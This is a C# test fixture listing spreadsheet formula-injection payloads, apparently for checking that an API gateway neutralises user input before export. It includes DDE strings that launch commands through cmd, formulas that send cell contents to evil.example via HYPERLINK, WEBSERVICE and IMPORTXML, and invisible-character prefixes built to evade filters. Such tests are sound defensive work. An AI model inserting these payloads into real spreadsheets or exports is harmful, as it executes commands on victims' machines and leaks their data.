namespace Gateway.Tests.Api;

/// <summary>Texts that people could type so that a spreadsheet takes them for a formula, plainly or behind something unseen.</summary>
internal static class FormulaPayloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        "=1+1", "=SUM(A1:A9)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "=IMPORTDATA(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IF(1,cmd|'/C calc'!A0)", "==1", "=-1", "=@SUM(A1)", "='a'", "=\"a\"",
        "+1+1", "+cmd|'/C calc'!A0", "+923001234567", "+=1", "+SUM(A1)", "-1+1", "-cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!D2", "--1", "-=1", "-@SUM(A1)",
        "@SUM(1+1)*cmd|'/C calc'!A0", "@A1", "@=1", "@@", "\t=1+1", "\t+1", "\t@A1", "\tx", "\r=1+1", "\rx", "\n=1+1", "\r\n=1+1", "\0=1+1", "\0x",
        " =1+1", "   +1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e=1+1", "\ufeff=1+1", "\u2066@A1", "\u000b=1+1", "\u001f=1+1",
        "＝1+1", "＋1", "－1", "＠A1", " ＝1", "|calc", "%0A=1", "'=1+1", "\"=1+1", "\"\",=1+1", "'\"=1+1", "\u2212 1", "﹦1+1", "﹢1", "﹣1", "﹫A1",
    ];
}
